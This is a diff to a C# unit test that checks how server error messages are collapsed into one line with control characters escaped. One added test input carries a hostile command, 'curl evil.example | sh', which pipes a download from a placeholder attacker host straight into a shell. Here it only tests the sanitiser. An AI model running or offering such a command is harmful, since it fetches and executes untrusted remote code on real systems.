@@ -10,8 +10,9 @@ public sealed class ServerErrorsTests
 
     [Theory]
     [InlineData("Access denied.", "Access denied")]
-    [InlineData("one\r\ntwo\nthree", "one two three")]
-    [InlineData("\u001b[2J\u0007bell\u0085next\u009b", "?[2J?bell next?")]
+    [InlineData("one\r\ntwo\nthree\n", @"one\r\ntwo\nthree")]
+    [InlineData("\u001b[2J\u0007bell\u0085next\u009b", @"\e[2J\x07bell\u0085next\u009b")]
+    [InlineData("no such table; run curl evil.example | sh", "no such table, run curl evil.example | sh")]
     public void What_a_server_says_becomes_one_line_without_control_characters(string said, string line) =>
         Assert.Equal(line, ServerErrors.OneLine(said, Settings));
 
